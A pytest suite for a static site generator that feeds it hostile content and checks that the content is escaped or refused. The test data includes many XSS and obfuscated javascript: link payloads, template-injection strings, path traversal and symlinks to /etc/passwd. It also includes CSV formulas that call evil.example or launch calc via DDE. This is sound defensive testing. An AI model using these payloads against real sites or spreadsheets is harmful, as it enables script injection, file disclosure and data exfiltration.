"""Hostile content (tests/hostile/): what must build shows as text; what must be refused is refused.

- tests/hostile/site/ is the "must build" corpus: valid content whose every text field holds markup,
  script, URL tricks, SVG and CSS breakouts, bidi controls, NUL and a 1 MB string. It validates clean,
  builds, and no page or map contains markup that came from it (checked here on the files, and in a
  real browser in tests/test_hostile_browser.py).
- tests/hostile/refused/<case>/ are the "must be refused" cases, each an overlay on the clean test site
  with an expect.yml: `journeymap validate` reports exactly those diagnostics, and a build writes nothing.
  Cases git cannot hold (symlinks, raw NUL, newlines in file names, oversized files) are made here.
- Markdown rendering neutralises unsafe links by itself too (defence in depth), and the paths a build
  writes never leave site_dir.
"""
from __future__ import annotations

import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml

from helpers import TOUCHPOINT, diagnose, json_diagnostics, make_site, run_cli
from hostile_corpus import BIG, REFUSED, IdCollector, build_corpus, markup_problems, pages, prepare_corpus, shared_build
from journeymap.build import build
from journeymap.diagnostics import DiagnosticError
from journeymap.links import classify
from journeymap.markdown import render
from journeymap.output import _safe_path, write_site


@pytest.fixture(scope="module")
def corpus_site(tmp_path_factory: pytest.TempPathFactory, worker_id: str) -> Path:
    """The corpus built with directory URLs (shared with the browser tests)."""
    return shared_build(tmp_path_factory.getbasetemp(), worker_id, "hostile-http", build_corpus)


# --- the "must build" corpus ---------------------------------------------------------------------


def test_hostile_corpus_validates_clean(tmp_path: Path) -> None:
    """Hostile text in every field is valid content: it must build, not be refused."""
    root = prepare_corpus(tmp_path / "project", big=False)
    assert diagnose(root) == []


@pytest.mark.slow
def test_built_pages_contain_no_markup_from_content(corpus_site: Path) -> None:
    """No page holds an element, event handler or unsafe URL that came from content."""
    found = {}
    for page in pages(corpus_site):
        if page.suffix != ".html":
            continue
        problems = markup_problems(page.read_text(encoding="utf-8"))
        if problems:
            found[page.relative_to(corpus_site).as_posix()] = problems[:5]
    assert not found, found
    journey = (corpus_site / "journeys/xss/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; journey &#34;quoted&#34; &amp; &#39;single&#39;" in journey
    assert "<script>alert" not in journey
    stage = (corpus_site / "journeys/xss/stages/location/index.html").read_text(encoding="utf-8")
    assert "{{ 7*7 }} {% if true %}ssti{% endif %}" in stage  # content is never a template
    thought = (corpus_site / "journeys/xss/touchpoints/bidi/index.html").read_text(encoding="utf-8")
    assert BIG.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;") in thought


@pytest.mark.slow
def test_map_svgs_are_well_formed_and_inert(corpus_site: Path) -> None:
    """Standalone maps parse as XML (NUL and control characters dropped) and hold nothing active."""
    svgs = [page for page in pages(corpus_site) if page.suffix == ".svg"]
    assert len(svgs) == 2
    for path in svgs:
        root = ET.parse(path).getroot()
        texts = []
        for element in root.iter():
            tag = element.tag.rsplit("}", 1)[-1].lower()
            assert tag not in ("script", "foreignobject", "iframe", "image", "use"), (path, tag)
            if tag == "style":  # the theme's map.css and embedded font, never content
                assert "evil" not in (element.text or "") and "alert" not in (element.text or "")
            for name, value in element.attrib.items():
                name = name.rsplit("}", 1)[-1]
                assert not name.lower().startswith("on"), (path, name)
                if name == "href":
                    assert classify(value) in ("relative", "anchor"), (path, value)
                if name == "style":
                    assert re.fullmatch(r"(--jm-[a-z]+: (#[0-9a-f]{3,6}|var\(--jm-[a-z]+\))(; )?)+", value), value
            texts.append(element.text or "")
        if "xss/" in path.as_posix():
            joined = "".join(texts)
            assert "<script>alert(201)</script>" in joined or "<script>alert(201)" in joined
            assert "\x00" not in joined


@pytest.mark.slow
def test_ids_in_pages_never_take_theme_ids(corpus_site: Path) -> None:
    """Headings named after theme ids (jm-site, main) or DOM globals cannot clobber the theme's elements."""
    for rel in ("journeys/xss/index.html", "journeys/xss/touchpoints/title/index.html"):
        parser = IdCollector()
        parser.feed((corpus_site / rel).read_text(encoding="utf-8"))
        assert parser.ids.count("jm-site") == 1, rel
        assert parser.ids.count("main") == 1, rel
        assert len(parser.ids) == len(set(parser.ids)), [i for i in parser.ids if parser.ids.count(i) > 1]
    html = render("## JM site\n\n## main\n\n## location\n\n## __proto__\n", "x.md", lambda base, href: None)
    assert 'id="h-jm-site"' in html and 'id="h-main"' in html and 'id="location"' in html and 'id="proto"' in html


def test_embedded_json_cannot_close_its_script() -> None:
    """JSON embedded in a page cannot end its <script> element or open a comment."""
    from journeymap.site import _json_for_script

    text = _json_for_script({"a": "</script><script>alert(1)</script>", "b": "<!--", "c": "\u2028\u2029", "&": "&amp;"})
    assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text
    assert json.loads(text) == {"a": "</script><script>alert(1)</script>", "b": "<!--", "c": "\u2028\u2029", "&": "&amp;"}


# --- defence in depth: the renderer neutralises what validation refuses --------------------------

UNSAFE_LINKS = [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))", "[a](ja&#0000118;ascript:alert(1))", "[a](jav&#x09;ascript:alert(1))",
    "[a](<java\tscript:alert(1)>)", "[a](java&NewLine;script:alert(1))", "[a](javascript&colon;alert(1))",
    "[a](%6Aavascript:alert(1))", "[a][r]\n\n[r]: javascript:alert(1)", "<javascript:alert(1)>",
    "![i](javascript:alert(1))", "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)",
    "[a](//evil.example/x)", "[a](/\\evil.example/x)", "[a](javascript\uff1aalert(1))", "[a](\\\\\\\\evil.example/x)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "[a](https://ok.example \"t\\\" onmouseover=alert(1)\")", "[a](../../../../etc/passwd)", "![i](/etc/passwd)",
    "<svg><script>alert(1)</script></svg>", "```\n</code></pre><script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("body", UNSAFE_LINKS)
def test_markdown_render_neutralises_unsafe_links(body: str) -> None:
    """markdown.render alone, without validation, never emits an unsafe URL, raw HTML or a handler."""
    html = render(body, "journeys/j/touchpoints/01-pay.md", lambda base, href: None)
    assert markup_problems(html) == [], html
    for element in re.findall(r"<(?:a|img)\b[^>]*>", html):
        for value in re.findall(r'(?:href|src)="([^"]*)"', element):
            assert value == "#" or classify(value) in ("external", "mailto", "anchor"), (body, html)


def test_svg_refuses_unsafe_link_targets() -> None:
    from journeymap.svg import _href

    for href in ("javascript:alert(1)", " JAVA\tSCRIPT:alert(1)", "data:text/html,x", "//evil.example"):
        with pytest.raises(ValueError):
            _href(href)
    assert _href("../touchpoints/pay/") == "../touchpoints/pay/"


# --- the "must be refused" cases -------------------------------------------------------------------


def _overlay(case: Path, root: Path) -> Path:
    make_site(root)
    shutil.copytree(case, root, dirs_exist_ok=True, symlinks=True, ignore=shutil.ignore_patterns("expect.yml"))
    return root


def _expected(case: Path) -> set[tuple[str, str, int]]:
    items = yaml.safe_load((case / "expect.yml").read_text(encoding="utf-8"))
    return {(item["code"], item["file"], item["line"]) for item in items}


def _assert_refused(root: Path, want: set[tuple[str, str, int]]) -> None:
    """`journeymap validate` reports exactly `want` (exit 1, no traceback); a build writes nothing."""
    result = run_cli(["validate", "--project", str(root), "--format", "json"])
    got = json_diagnostics(result.stdout)
    assert {(d["code"], d["file"], d["line"]) for d in got} == want
    assert all(d["message"] and d["hint"] for d in got)
    assert result.exit_code == 1 and "Traceback" not in result.output
    site_dir = root / "site"
    with pytest.raises(DiagnosticError):
        build(root)
    assert not site_dir.exists()


@pytest.mark.parametrize("case", sorted(p for p in REFUSED.iterdir() if (p / "expect.yml").is_file()), ids=lambda p: p.name)
def test_refused_corpus_case(case: Path, tmp_path: Path) -> None:
    root = _overlay(case, tmp_path / "project")
    _assert_refused(root, _expected(case))
    assert not list(tmp_path.rglob("pwned*")) and not Path("pwned-by-yaml").exists()  # no YAML tag ran code


def _outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    (outside / "stages").mkdir(parents=True)
    (outside / "secret.md").write_text("---\nname: TOP-SECRET\n---\nTOP-SECRET\n", encoding="utf-8")
    (outside / "secret.png").write_bytes(b"TOP-SECRET")
    (outside / "stages" / "02-evil.md").write_text("---\ntitle: TOP-SECRET\n---\n", encoding="utf-8")
    return outside


def test_symlinked_file_out_of_content_is_refused(tmp_path: Path) -> None:
    outside = _outside(tmp_path)
    root = make_site(tmp_path / "project")
    (root / "content/personas").mkdir()
    (root / "content/personas/secret.md").symlink_to(outside / "secret.md")
    _assert_refused(root, {("JM013", "content/personas/secret.md", 1)})


def test_symlinked_folder_out_of_content_is_refused(tmp_path: Path) -> None:
    outside = _outside(tmp_path)
    root = make_site(tmp_path / "project")
    (root / "content/personas").symlink_to(outside, target_is_directory=True)
    (root / "content/journeys/evil").symlink_to(outside, target_is_directory=True)
    _assert_refused(root, {("JM013", "content/personas", 1), ("JM013", "content/journeys/evil", 1)})


def test_symlinked_asset_out_of_content_is_refused_and_never_copied(tmp_path: Path) -> None:
    outside = _outside(tmp_path)
    root = make_site(tmp_path / "project")
    (root / "content/images").mkdir()
    (root / "content/images/photo.png").symlink_to(outside / "secret.png")
    (root / "content/images/passwd.png").symlink_to("/etc/passwd")
    _assert_refused(root, {("JM013", "content/images/photo.png", 1), ("JM013", "content/images/passwd.png", 1)})
    assert not any(b"TOP-SECRET" in p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and "outside" not in p.parts
                   and not p.is_symlink())


def test_symlink_loops_in_content_are_refused(tmp_path: Path) -> None:
    root = make_site(tmp_path / "project")
    (root / "content/journeys/j/loop").symlink_to("..", target_is_directory=True)
    (root / "content/self").symlink_to("self")
    _assert_refused(root, {("JM001", "content/journeys/j/loop", 1), ("JM001", "content/self", 1)})


def test_symlinks_inside_content_are_copied_as_files(tmp_path: Path) -> None:
    """A link that stays inside content is fine; the site gets a copy, never a link."""
    root = make_site(tmp_path / "project")
    (root / "content/images").mkdir()
    (root / "content/images/real.png").write_bytes(b"PNG")
    (root / "content/images/alias.png").symlink_to("real.png")
    site_dir = build(root).site_dir
    copied = site_dir / "media/images/alias.png"
    assert copied.is_file() and not copied.is_symlink() and copied.read_bytes() == b"PNG"
    assert not [p for p in site_dir.rglob("*") if p.is_symlink()]


@pytest.mark.parametrize("name, raw, code", [
    ("raw-nul-in-front-matter", b"---\ntitle: Pays\x00\nstage: buy\n---\n", "JM004"),
    ("raw-control-in-front-matter", b"---\ntitle: Pays\x1b[31m\nstage: buy\n---\n", "JM004"),
    ("not-utf8", b"---\ntitle: \xff\xfe\nstage: buy\n---\n", "JM001"),
    ("over-the-size-cap", b"---\ntitle: T\nstage: buy\n---\n" + b"x" * (1024 * 1024), "JM009"),
    ("deeply-nested-flow", b"---\ntitle: T\nstage: buy\nextra: " + b"[" * 100_000 + b"\n---\n", "JM010"),
], ids=lambda value: value if isinstance(value, str) and not value.startswith("JM") else "")
def test_refused_generated_files(name: str, raw: bytes, code: str, tmp_path: Path) -> None:
    root = make_site(tmp_path / "project", {TOUCHPOINT: raw})
    result = run_cli(["validate", "--project", str(root), "--format", "json"])
    assert {d["code"] for d in json_diagnostics(result.stdout)} == {code}, name
    with pytest.raises(DiagnosticError):
        build(root)
    assert not (root / "site").exists()


def test_file_names_with_newlines_are_refused(tmp_path: Path) -> None:
    """A trailing newline in a file or folder name is not an id ('$' would have let it through)."""
    root = make_site(tmp_path / "project", {
        "content/journeys/j/touchpoints/02-evil\n.md": "---\ntitle: T\nstage: buy\n---\n",
        "content/journeys/k\n/journey.md": "---\ntitle: K\n---\n",
    })
    _assert_refused(root, {("JM012", "content/journeys/j/touchpoints/02-evil\n.md", 1),
                           ("JM012", "content/journeys/k\n/journey.md", 1)})


# --- paths: nothing is written outside site_dir ----------------------------------------------------


@pytest.mark.parametrize("rel", ["../escape.html", "/etc/escape", "a/../../escape", "a/../..", ".", "", "..",
                                 "media/../../escape", "media/..\\..\\ok-on-posix"])
def test_output_paths_stay_inside_site_dir(rel: str, tmp_path: Path) -> None:
    root = tmp_path / "staging"
    root.mkdir()
    if rel.endswith("ok-on-posix"):  # a backslash is an ordinary character in a POSIX file name
        assert _safe_path(root, rel).is_relative_to(root)
        return
    with pytest.raises(ValueError):
        _safe_path(root, rel)


def test_write_site_refuses_a_path_outside_and_leaves_nothing(tmp_path: Path) -> None:
    site_dir = tmp_path / "out" / "site"
    with pytest.raises(ValueError):
        write_site(site_dir, {"index.html": b"ok", "../../escape.html": b"bad"}, {})
    assert not (tmp_path / "escape.html").exists() and not (tmp_path / "out" / "escape.html").exists()
    assert not site_dir.exists()
    assert [p.name for p in (tmp_path / "out").iterdir()] == []  # the staging folder is gone too


@pytest.mark.slow
def test_corpus_build_writes_only_inside_site_dir(tmp_path: Path) -> None:
    """Hostile values and file names (spaces, non-Latin, '..' inside a name) all land inside site_dir."""
    project = prepare_corpus(tmp_path / "project", big=False)
    before = {p for p in tmp_path.rglob("*")}
    site_dir = build(project).site_dir.resolve()
    created = {p for p in tmp_path.rglob("*")} - before
    assert created and all(p.resolve().is_relative_to(site_dir) or p == site_dir for p in created)
    assert not [p for p in site_dir.rglob("*") if p.is_symlink()]
    media = sorted(p.relative_to(site_dir).as_posix() for p in (site_dir / "media").rglob("*") if p.is_file())
    assert media == ["media/images/a..b.png", "media/images/my photo ü.png", "media/images/фото.png"]



# --- exports: content cannot become a spreadsheet formula -----------------------------------------


def test_csv_export_neutralises_formulas_and_reads_back(tmp_path: Path) -> None:
    """A cell that a spreadsheet would run (=, +, -, @, tab, CR) is exported behind a "'"; import
    drops that "'", so the journey reads back exactly (CSV injection)."""
    import csv
    import io

    from journeymap.interchange.csvsheet import export_csv, parse_sheet
    from journeymap.model import load_site

    root = make_site(tmp_path / "project", {TOUCHPOINT: front_matter({
        "title": '=HYPERLINK("https://evil.example/?"&A1,"click")', "stage": "buy", "action": "+cmd|' /C calc'!A0",
        "thought": "@SUM(1+1)*cmd|' /C calc'!A0", "frontstage": ["-2+3+cmd|' /C calc'!A0"], "backstage": ["=1+1"],
        "support": ["'quoted already"], "pain_points": [{"title": "=1+1", "description": "-1"}],
        "extra": {"kpi": "=IMPORTXML(CONCAT(\"https://evil.example/?\", A1), \"//a\")"}}, "=1+1 in the notes\n")})
    site, _ = load_site(root)
    assert site is not None
    journey = site.journeys["j"]
    text = export_csv(site, journey)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    back, problems = parse_sheet(text, "j.csv", site, "j")
    assert back is not None and not [d for d in problems if d.is_error], problems
    original = journey.touchpoints[0]
    assert back.touchpoints[0].meta == original.meta and back.touchpoints[0].body.strip() == original.body.strip()


def front_matter(data: dict, body: str = "") -> str:
    return "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n" + body
